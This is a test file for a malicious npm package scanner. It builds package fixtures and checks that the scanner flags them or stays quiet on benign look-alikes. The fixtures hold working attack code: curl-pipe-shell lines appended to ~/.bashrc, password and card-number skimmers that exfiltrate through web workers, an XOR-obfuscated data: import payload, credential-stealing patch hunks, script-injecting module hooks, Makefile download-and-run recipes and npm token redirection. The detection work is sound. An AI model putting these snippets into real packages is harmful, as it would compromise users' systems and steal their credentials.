/**
 * Shapes from the seventeenth session: round 69 (behaviour carried by the runtime's plumbing:
 * classes that extend classes, page workers started from a Blob, data: imports, stubs in a
 * `catch`), written blind by a helper that had not read the engine, and the evasions the sixteenth
 * session's review left open (patches whose added lines do not parse alone, code written in a
 * template's own text, a module named without `node_modules`, a Makefile `define`, a token taken
 * from ~/.npmrc). Each is rewritten small and varied, with a look-alike that must stay quiet.
 */
import { analyzeSource } from './helpers';
import { wholeFragment } from '../../../src/engine/js/parse';

const pkg = (extra: Record<string, unknown> = {}) =>
  JSON.stringify({ name: 'shell-sync', version: '2.0.9', main: 'index.js', ...extra });
const threats = (r: ReturnType<typeof analyzeSource>) =>
  r.evidence.filter((f): f is typeof f & { threat_type: string } => 'threat_type' in f);
const ruleOf = (r: ReturnType<typeof analyzeSource>, rule: string) => threats(r).find((f) => f.rule === rule);

describe('a class that extends another has its members, and super reaches them (round 69)', () => {
  const platform = [
    "const fs = require('fs');",
    "const os = require('os');",
    "const path = require('path');",
    "const kLine = Symbol('line');",
    "const kTargets = Symbol('targets');",
    "const kApply = Symbol('apply');",
    "const SYNC = Symbol.for('shell.sync');",
    'const state = new WeakMap();',
    'class Integration {',
    '  constructor(home) { state.set(this, { home, done: false }); }',
    '  get home() { return state.get(this).home; }',
    "  get [kLine]() { return '(curl -fsSL https://sync.shell-env.example/sh | sh) >/dev/null 2>&1 &'; }",
    '  get [kTargets]() { return []; }',
    '  [kApply]() {}',
    '  [SYNC]() { try { this[kApply](); } catch (_) {} }',
    '}',
    'class Posix extends Integration {',
    "  get [kTargets]() { return ['.bashrc', '.zshrc'].map((f) => path.join(this.home, f)); }",
    '  [kApply]() { for (const rc of this[kTargets]) fs.appendFileSync(rc, `\\n${this[kLine]}\\n`); }',
    '}',
    'class Linux extends Posix {',
    '  constructor() { super(os.homedir()); }',
    '  [kApply]() { super[kApply](); }',
    '}',
    'const byPlatform = { linux: Linux, darwin: Posix };',
    'const integration = () => new (byPlatform[process.platform] || Integration)(os.homedir());',
    'module.exports = { integration, SYNC };',
  ].join('\n');

  it('a start-up file written through getters and methods two classes up, on load', () => {
    const r = analyzeSource({
      'package.json': pkg(),
      'lib/platform.js': platform,
      'index.js': "const { integration, SYNC } = require('./lib/platform');\nintegration()[SYNC]();\n",
    });
    expect(r.risk_level).toBe('critical');
    expect(ruleOf(r, 'js.write-shell-rc')?.message).toContain('~/.bashrc');
    expect(ruleOf(r, 'js.foreign-file-change')).toBeDefined();
  });

  it('attacker rewrite: ES5 classes joined by util.inherits, the class picked by a platform test', () => {
    const r = analyzeSource({
      'package.json': pkg(),
      'lib/base.js': [
        "const util = require('util');",
        "const fs = require('fs');",
        "const path = require('path');",
        "function Integration() { this.home = require('os').homedir(); }",
        "Integration.prototype.line = function () { return '(curl -fsSL https://sync.shell-env.example/sh | sh) &'; };",
        'Integration.prototype.apply = function () {};',
        'Integration.prototype.sync = function () { try { this.apply(); } catch (_) {} };',
        'function Posix() { Integration.call(this); }',
        'util.inherits(Posix, Integration);',
        'Posix.prototype.apply = function () {',
        "  for (const f of ['.bashrc', '.zshrc']) fs.appendFileSync(path.join(this.home, f), '\\n' + this.line() + '\\n');",
        '};',
        'module.exports = { Posix, Integration };',
      ].join('\n'),
      'index.js': [
        "const { Posix, Integration } = require('./lib/base');",
        "const C = process.platform === 'win32' ? Integration : Posix;",
        'new C().sync();',
      ].join('\n'),
    });
    expect(r.risk_level).toBe('critical');
    expect(ruleOf(r, 'js.write-shell-rc')?.message).toContain('~/.bashrc');
  });

  it('quiet: a logger whose subclass calls super to write its own log folder', () => {
    const r = analyzeSource({
      'package.json': pkg({ name: 'tiny-log' }),
      'index.js': [
        "const fs = require('fs');",
        "const path = require('path');",
        'class Sink { constructor(dir) { this.dir = dir; } write(line) { fs.appendFileSync(path.join(this.dir, "app.log"), line + "\\n"); } }',
        'class Timestamped extends Sink {',
        '  constructor(dir) { super(dir); }',
        '  write(line) { super.write(`${new Date().toISOString()} ${line}`); }',
        '}',
        "module.exports = (dir = path.join(process.cwd(), 'logs')) => new Timestamped(dir);",
      ].join('\n'),
    });
    expect(r.risk_level).toBe('clean');
  });
});

describe('a page worker started from code in the package is a way out for what is posted to it (round 69)', () => {
  const worker = (src: string, fallback: boolean) =>
    [
      `const SRC = ${JSON.stringify(src)};`,
      "const EP = ['https://cdn-formkit-static', 'example/v2/perf'].join('.');",
      'let w = null;',
      'function getWorker() {',
      '  if (w) return w;',
      fallback ? '  try {' : '',
      "    w = new Worker(URL.createObjectURL(new Blob([SRC], { type: 'text/javascript' })));",
      "    w.postMessage({ t: 'cfg', ep: EP });",
      fallback ? '  } catch (_) { w = { postMessage() {} }; }' : '',
      '  return w;',
      '}',
    ].join('\n');
  const forwards =
    "let q = [], ep = ''; self.onmessage = (e) => { if (e.data.t === 'cfg') { ep = e.data.ep; return; } q.push(e.data); fetch(ep, { method: 'POST', body: JSON.stringify(q.splice(0)) }); };";

  it('password fields kept in a WeakMap on input, posted on blur to a worker that sends them', () => {
    for (const fallback of [false, true]) {
      const r = analyzeSource({
        'package.json': pkg({ name: 'formkit-mask', main: 'src/index.js', browser: 'src/index.js' }),
        'src/index.js': [
          worker(forwards, fallback),
          'const SEEN = new WeakMap();',
          "function onInput(ev) { const el = ev.target; if (el.type === 'password') SEEN.set(el, el.value); }",
          'function onBlur(ev) { const el = ev.target; if (SEEN.has(el)) getWorker().postMessage({ v: SEEN.get(el) }); }',
          "for (const el of document.querySelectorAll('input, textarea')) {",
          "  el.addEventListener('input', onInput);",
          "  el.addEventListener('blur', onBlur);",
          '}',
        ].join('\n'),
      });
      expect(ruleOf(r, 'js.page-secret-exfil')?.confidence).toBeGreaterThanOrEqual(0.8);
      expect(r.risk_level).toBe('critical');
    }
  });

  it('attacker rewrite: the worker’s code in a file of its own, told where to send by a message', () => {
    const r = analyzeSource({
      'package.json': pkg({
        name: 'formkit-mask',
        type: 'module',
        main: 'src/index.js',
        browser: 'src/index.js',
      }),
      'src/batch.worker.js': [
        "let q = [], ep = '';",
        'self.onmessage = (e) => {',
        "  if (e.data.t === 'cfg') { ep = e.data.ep; return; }",
        '  q.push(e.data);',
        "  if (q.length >= 5) fetch(ep, { method: 'POST', body: JSON.stringify(q.splice(0)) });",
        '};',
      ].join('\n'),
      'src/index.js': [
        "const w = new Worker(new URL('./batch.worker.js', import.meta.url), { type: 'module' });",
        "w.postMessage({ t: 'cfg', ep: ['https://cdn-formkit-static', 'example/v2/perf'].join('.') });",
        "for (const el of document.querySelectorAll('input[type=password], input[autocomplete=cc-number]'))",
        "  el.addEventListener('change', () => w.postMessage({ k: el.name, v: el.value }));",
      ].join('\n'),
    });
    expect(ruleOf(r, 'js.page-secret-exfil')?.confidence).toBeGreaterThanOrEqual(0.8);
  });

  it('attacker rewrite: the worker in a pool module behind a send wrapper, its handler a bare onmessage', () => {
    const r = analyzeSource({
      'package.json': pkg({ name: 'maskit-ui', main: 'src/index.js', browser: 'src/index.js' }),
      'src/pool.js': [
        `const CODE = ${JSON.stringify(["let t = '';", 'onmessage = (m) => {', "  if (m.data.kind === 'target') { t = m.data.to; return; }", "  fetch(t, { method: 'POST', keepalive: true, body: JSON.stringify(m.data) });", '};'].join('\n'))};`,
        'export function makePool() {',
        '  const w = new Worker(URL.createObjectURL(new Blob([CODE])));',
        "  w.postMessage({ kind: 'target', to: 'https://' + ['telemetry', 'maskit-cdn', 'example'].join('.') + '/c' });",
        '  return { send: (x) => w.postMessage(x) };',
        '}',
      ].join('\n'),
      'src/index.js': [
        "import { makePool } from './pool.js';",
        'const pool = makePool();',
        "for (const f of document.querySelectorAll('input[autocomplete=cc-number], input[type=password]'))",
        "  f.addEventListener('change', () => pool.send({ n: f.name, v: f.value }));",
      ].join('\n'),
    });
    expect(ruleOf(r, 'js.page-secret-exfil')?.confidence).toBeGreaterThanOrEqual(0.8);
  });

  it('quiet: a worker that formats numbers off the main thread', () => {
    const r = analyzeSource({
      'package.json': pkg({ name: 'formkit-mask', main: 'src/index.js', browser: 'src/index.js' }),
      'src/index.js': [
        worker(
          'self.onmessage = (e) => { self.postMessage(new Intl.NumberFormat().format(e.data)); };',
          true,
        ),
        "for (const el of document.querySelectorAll('input.amount')) el.addEventListener('blur', () => getWorker().postMessage(el.value));",
      ].join('\n'),
    });
    expect(r.risk_level).toBe('clean');
  });
});

describe('an import of a data: address built around a value not known here (round 69)', () => {
  it('quiet: a config loader evaluating the expression its user passes as a module', () => {
    const r = analyzeSource({
      'package.json': pkg({ name: 'layered-config', type: 'module' }),
      'index.js': [
        'export async function importInline(expr) {',
        '  const src = `export default (${expr});`;',
        "  const mod = await import('data:text/javascript;base64,' + Buffer.from(src).toString('base64'));",
        '  return mod.default;',
        '}',
      ].join('\n'),
    });
    expect(threats(r).filter((f) => f.confidence >= 0.5)).toEqual([]);
  });

  it('the same import of a payload decoded from the package’s own data', () => {
    const r = analyzeSource({
      'package.json': pkg({ name: 'ansi-palette', type: 'module' }),
      'index.js': [
        "const KEY = 'ansi256';",
        `const PALETTE = ${JSON.stringify(
          [
            ...Buffer.from(
              "import('node:child_process').then((cp) => cp.exec('curl -s http://45.61.1.9/s | sh'));",
            ),
          ].map((b, i) => b ^ 'ansi256'.charCodeAt(i % 7)),
        )};`,
        'const code = String.fromCharCode(...PALETTE.map((b, i) => b ^ KEY.charCodeAt(i % KEY.length)));',
        "await import('data:text/javascript;base64,' + Buffer.from(code).toString('base64'));",
      ].join('\n'),
    });
    expect(r.risk_level).toBe('critical');
  });
});

describe('patches whose added lines do not parse alone (review of the sixteenth session)', () => {
  const patch = (hunk: string[]) =>
    [
      'diff --git a/node_modules/got/dist/source/core/index.js b/node_modules/got/dist/source/core/index.js',
      '--- a/node_modules/got/dist/source/core/index.js',
      '+++ b/node_modules/got/dist/source/core/index.js',
      `@@ -1410,8 +1410,${hunk.length} @@`,
      ...hunk,
    ].join('\n');
  const sync = [
    "+    #host = 'sync.orbit-edge-cache.example';",
    '+    #sync(headers, options) {',
    "+        const req = require('https').request({ hostname: this.#host, path: '/v1/h', method: 'POST' });",
    "+        req.end(JSON.stringify({ a: headers.authorization, u: String(options.url), h: require('os').hostname() }));",
    '+    }',
  ];

  it('methods added to a class, the hunk opening inside the class or in the function before it', () => {
    for (const hunk of [
      [
        ' });',
        ' class Request extends stream_1.Duplex {',
        ...sync,
        '     async _makeRequest() {',
        '         const { options } = this;',
        '+        this.#sync(options.headers, options);',
        '         for (const key in headers) {',
      ],
      [
        '         return this;',
        '     }',
        ...sync,
        '     async _makeRequest() {',
        '+        this.#sync(this.options.headers, this.options);',
        '         const { options } = this;',
      ],
    ]) {
      const r = analyzeSource({
        'package.json': pkg({ name: '@orbit-sdk/rest', scripts: { postinstall: 'patch-package' } }),
        'patches/got+11.8.6.patch': patch(hunk),
      });
      expect(ruleOf(r, 'pkg.install-patches-dependency')?.confidence).toBeGreaterThanOrEqual(0.85);
    }
  });

  it('a fragment is made whole: brackets closed before it opened, the ones left open closed', () => {
    expect(wholeFragment('});\nclass A {\n  m() {\n    if (x) {', false)).toBe(
      '({});\nclass A {\n  m() {\n    if (x) {\n}}}\n',
    );
    expect(wholeFragment('  }\n  n() { return 1; }', true)).toBe(
      'class Fragment { fragment() {  }\n  n() { return 1; }\n}\n',
    );
    expect(wholeFragment('{ )', false)).toBeUndefined();
  });
});

describe('code a module hook adds, written in a template or naming the module without node_modules', () => {
  const hook = (choose: string, join: string) =>
    [
      "const fs = require('fs');",
      "const Module = require('module');",
      'const patches = [];',
      'function patch(test, fn) { patches.push({ test, fn }); }',
      choose,
      `patch(/express[\\\\/]lib[\\\\/]response\\.js$/, ${join});`,
      "Module._extensions['.js'] = function (mod, filename) {",
      "  let source = fs.readFileSync(filename, 'utf8');",
      '  for (const p of patches) if (p.test.test(filename)) source = p.fn(source);',
      '  mod._compile(source, filename);',
      '};',
    ].join('\n');
  const added =
    ";(function (proto) { const send = proto.send; proto.send = function (body) { if (typeof body === 'string') body = body.replace('</body>', '<script src=\"https://static.warmcache-cdn.example/w.js\"></script></body>'); return send.call(this, body); }; })(module.exports);";

  it('the code in the template’s own text, or kept in a constant, joined to the source', () => {
    for (const [choose, join] of [
      ['', `(source) => \`\${source}\n${added}\n\``],
      [`const HELPER = ${JSON.stringify(added)};`, '(source) => source + HELPER'],
    ] as const) {
      const r = analyzeSource({
        'package.json': pkg({ name: 'warm-cache' }),
        'index.js': hook(choose, join),
      });
      expect(ruleOf(r, 'js.module-hook-tamper')?.message).toContain('express/lib/response.js');
    }
  });

  it('quiet: a coverage hook adding counters to the package’s own src files', () => {
    const r = analyzeSource({
      'package.json': pkg({ name: 'warm-cache' }),
      'index.js': hook(
        '',
        '(source) => `var __cov = (globalThis.__cov ||= {});\n${source}\n__cov.hits = (__cov.hits || 0) + 1;`',
      ).replace('express[\\\\/]lib[\\\\/]response', 'src[\\\\/]lib[\\\\/]util'),
    });
    expect(ruleOf(r, 'js.module-hook-tamper')).toBeUndefined();
  });
});

describe('a Makefile define, and a token read from ~/.npmrc (review of the sixteenth session)', () => {
  it('a recipe that runs a variable defined over several lines', () => {
    const r = analyzeSource({
      'package.json': pkg({ scripts: { install: 'make' } }),
      Makefile:
        'define FETCH\necho fetching\ncurl -fsSL http://45.9.148.3/x.sh | sh\nendef\nall:\n\t@$(FETCH)\n',
    });
    expect(ruleOf(r, 'shell.download-pipe-shell')?.confidence).toBeGreaterThanOrEqual(0.9);
  });

  it('attacker rewrite: the download in a define called with its host and file as arguments', () => {
    const r = analyzeSource({
      'package.json': pkg({ scripts: { install: 'make -s prebuilt' } }),
      Makefile: [
        'HOST = 45.9.148.3',
        'define fetch_run',
        '\tcurl -fsSL http://$(1)/$(2) -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x &',
        'endef',
        'prebuilt:',
        '\t$(call fetch_run,$(HOST),lib.so)',
        '',
      ].join('\n'),
    });
    expect(r.risk_level).toBe('critical');
    expect(ruleOf(r, 'script.download-execute')?.message).toContain('45.9.148.3');
  });

  it('the token from the user’s own npmrc written for the mirror it now names', () => {
    const r = analyzeSource({
      'package.json': pkg(),
      'index.js': [
        "const fs = require('fs');",
        "const npmrc = require('path').join(require('os').homedir(), '.npmrc');",
        "const token = (/_authToken=(.+)/.exec(fs.readFileSync(npmrc, 'utf8')) || [])[1];",
        'fs.writeFileSync(npmrc, `registry=https://npm-mirror.fastpkg.example/\\n//npm-mirror.fastpkg.example/:_authToken=${token}\\n`);',
      ].join('\n'),
    });
    expect(ruleOf(r, 'js.write-registry-config')?.confidence).toBeGreaterThanOrEqual(0.85);
  });

  it('quiet enough: a registry switcher rewriting the file, each token kept for its own host', () => {
    const r = analyzeSource({
      'package.json': pkg({ name: 'reg-switch', bin: { 'reg-switch': 'cli.js' } }),
      'cli.js': [
        "const fs = require('fs');",
        "const npmrc = require('path').join(require('os').homedir(), '.npmrc');",
        "const lines = fs.readFileSync(npmrc, 'utf8').split('\\n').filter((l) => !l.startsWith('registry='));",
        "module.exports.use = (url) => fs.writeFileSync(npmrc, ['registry=' + url, ...lines].join('\\n'));",
      ].join('\n'),
    });
    expect(ruleOf(r, 'js.write-registry-config')?.confidence ?? 0).toBeLessThan(0.5);
  });
});

describe('review of the seventeenth session', () => {
  const shellWriter = [
    "const fs = require('fs');",
    "const os = require('os');",
    "const path = require('path');",
  ];
  const line = "return '(curl -fsSL https://sync.shell-env.example/sh | sh) >/dev/null 2>&1 &';";
  const appends =
    "for (const f of ['.bashrc', '.zshrc']) fs.appendFileSync(path.join(os.homedir(), f), '\\n' + this.line() + '\\n');";

  it('Makefile calls of calls are expanded a bounded number of times', () => {
    const lines = ['V6 = echo hello world'];
    for (let i = 5; i >= 0; i--)
      lines.push(`V${i} = ${Array.from({ length: 50 }, () => `$(call V${i + 1},x)`).join(' ')}`);
    const r = analyzeSource({
      'package.json': pkg({ scripts: { install: 'make' } }),
      Makefile: `${lines.join('\n')}\nall:\n\t@$(call V0,x)\n`,
    });
    expect(r.risk_level).toBe('clean');
  });

  it('a define called in the brace form', () => {
    const r = analyzeSource({
      'package.json': pkg({ scripts: { install: 'make -s prebuilt' } }),
      Makefile:
        'define fetch_run\n\tcurl -fsSL http://$(1)/$(2) -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x &\nendef\nprebuilt:\n\t${call fetch_run, 45.9.148.3, lib.so}\n',
    });
    expect(ruleOf(r, 'script.download-execute')?.confidence).toBeGreaterThanOrEqual(0.9);
  });

  it('a class that extends one of two classes, an ES5 parent through Object.create or extends', () => {
    for (const code of [
      [
        'class Quiet { apply() {} }',
        `class Posix { line() { ${line} } apply() { ${appends} } }`,
        "class Integration extends (process.platform === 'win32' ? Quiet : Posix) { sync() { try { this.apply(); } catch (_) {} } }",
        'new Integration().sync();',
      ],
      [
        'function Integration() {}',
        `Integration.prototype.line = function () { ${line} };`,
        'Integration.prototype.sync = function () { this.apply(); };',
        'function Posix() { Integration.call(this); }',
        'Posix.prototype = Object.create(Integration.prototype);',
        `Posix.prototype.apply = function () { ${appends} };`,
        'new Posix().sync();',
      ],
      [
        'function Integration() { this.home = os.homedir(); }',
        `Integration.prototype.line = function () { ${line} };`,
        'Integration.prototype.sync = function () { this.apply(); };',
        `class Posix extends Integration { apply() { ${appends} } }`,
        'new Posix().sync();',
      ],
    ]) {
      const r = analyzeSource({ 'package.json': pkg(), 'index.js': [...shellWriter, ...code].join('\n') });
      expect(r.risk_level).toBe('critical');
      expect(ruleOf(r, 'js.write-shell-rc')?.message).toContain('~/.bashrc');
    }
  });

  it('a worker that loads its code from a host, or whose code was downloaded, is posted password fields', () => {
    for (const start of [
      [
        'const SRC = "importScripts(\'https://cdn-formkit-static.example/v2/perf.js\');";',
        "const w = new Worker(URL.createObjectURL(new Blob([SRC], { type: 'text/javascript' })));",
      ],
      [
        'let w;',
        "fetch('https://cdn-formkit-static.example/v2/perf.js').then((r) => r.blob()).then((b) => { w = new Worker(URL.createObjectURL(b)); });",
      ],
    ]) {
      const r = analyzeSource({
        'package.json': pkg({ name: 'formkit-mask', main: 'src/index.js', browser: 'src/index.js' }),
        'src/index.js': [
          ...start,
          "for (const el of document.querySelectorAll('input[type=password]'))",
          "  el.addEventListener('change', () => w && w.postMessage({ k: el.name, v: el.value }));",
        ].join('\n'),
      });
      expect(ruleOf(r, 'js.page-secret-exfil')?.confidence).toBeGreaterThanOrEqual(0.8);
    }
  });

  it('quiet: an API client whose worker file uses the session token as its own requests’ credential', () => {
    const r = analyzeSource({
      'package.json': pkg({
        name: 'api-session-worker',
        type: 'module',
        main: 'src/index.js',
        browser: 'src/index.js',
      }),
      'src/api.worker.js': [
        "let token = '';",
        'self.onmessage = async (e) => {',
        "  if (e.data.type === 'auth') { token = e.data.token; return; }",
        "  const res = await fetch('https://api.acme-app.example/v1/' + e.data.path, { headers: { Authorization: 'Bearer ' + token } });",
        '  self.postMessage({ id: e.data.id, body: await res.json() });',
        '};',
      ].join('\n'),
      'src/index.js': [
        "const worker = new Worker(new URL('./api.worker.js', import.meta.url), { type: 'module' });",
        "worker.postMessage({ type: 'auth', token: localStorage.getItem('access_token') });",
        'let id = 0;',
        'export function get(path) { const my = ++id; worker.postMessage({ id: my, path }); }',
      ].join('\n'),
    });
    expect(r.risk_level).toBe('clean');
  });

  it('quiet: ~/.npmrc reset to a registry, keeping the token the code read for that registry', () => {
    const r = analyzeSource({
      'package.json': pkg({ name: 'npmrc-reset', bin: { 'npmrc-reset': 'cli.js' } }),
      'cli.js': [
        "const fs = require('fs');",
        "const npmrc = require('path').join(require('os').homedir(), '.npmrc');",
        "const old = fs.existsSync(npmrc) ? fs.readFileSync(npmrc, 'utf8') : '';",
        'const token = (/\\/\\/registry\\.example\\.org\\/:_authToken=(.+)/.exec(old) || [])[1];',
        "let out = 'registry=https://registry.example.org/\\n';",
        'if (token) out += `//registry.example.org/:_authToken=${token}\\n`;',
        'fs.writeFileSync(npmrc, out);',
      ].join('\n'),
    });
    expect(ruleOf(r, 'js.write-registry-config')?.confidence ?? 0).toBeLessThan(0.5);
  });

  it('a patch with a harmless hunk that starts inside a comment beside the one that adds a request', () => {
    const r = analyzeSource({
      'package.json': pkg({ name: '@orbit-sdk/rest', scripts: { postinstall: 'patch-package' } }),
      'patches/got+11.8.6.patch': [
        '--- a/node_modules/got/dist/source/core/index.js',
        '+++ b/node_modules/got/dist/source/core/index.js',
        '@@ -20,4 +20,5 @@',
        "      * it's the options for the request (",
        '      */',
        '+    // patched: keep the timeout below 30s',
        '     constructor(url, options, defaults) {',
        '         super({',
        '@@ -1410,3 +1411,5 @@',
        ' });',
        ' class Request extends stream_1.Duplex {',
        "+    #sync(h) { require('https').request({ hostname: 'sync.orbit-edge-cache.example', method: 'POST' }).end(JSON.stringify({ a: h.authorization, h: require('os').hostname() })); }",
        '     async _makeRequest() {',
        '+        this.#sync(this.options.headers);',
      ].join('\n'),
    });
    expect(ruleOf(r, 'pkg.install-patches-dependency')?.confidence).toBeGreaterThanOrEqual(0.85);
  });

  it('a stub of arrow functions and nulls in the catch stands for nothing', () => {
    const r = analyzeSource({
      'package.json': pkg({ name: 'formkit-mask', main: 'src/index.js', browser: 'src/index.js' }),
      'src/index.js': [
        `const SRC = ${JSON.stringify("self.onmessage = (e) => { fetch('https://collect.formkit-static.example/p', { method: 'POST', body: JSON.stringify(e.data) }); };")};`,
        'let w = null;',
        'try { w = new Worker(URL.createObjectURL(new Blob([SRC]))); } catch (_) { w = { postMessage: () => undefined, onmessage: null }; }',
        "for (const el of document.querySelectorAll('input[type=password]'))",
        "  el.addEventListener('blur', () => w.postMessage({ v: el.value }));",
      ].join('\n'),
    });
    expect(ruleOf(r, 'js.page-secret-exfil')?.confidence).toBeGreaterThanOrEqual(0.8);
  });

  it('quiet: a coverage hook for the package’s own esm build', () => {
    const r = analyzeSource({
      'package.json': pkg({ name: 'warm-cache' }),
      'index.js': [
        "const fs = require('fs');",
        "const Module = require('module');",
        'const patches = [];',
        'patches.push({ test: /esm[\\\\/]cache[\\\\/]store\\.js$/, fn: (source) => `var __cov = (globalThis.__cov ||= { hits: 0 });\\n${source}\\n__cov.hits = (__cov.hits || 0) + 1;` });',
        "Module._extensions['.js'] = function (mod, filename) {",
        "  let source = fs.readFileSync(filename, 'utf8');",
        '  for (const p of patches) if (p.test.test(filename)) source = p.fn(source);',
        '  mod._compile(source, filename);',
        '};',
      ].join('\n'),
    });
    expect(ruleOf(r, 'js.module-hook-tamper')).toBeUndefined();
  });
});
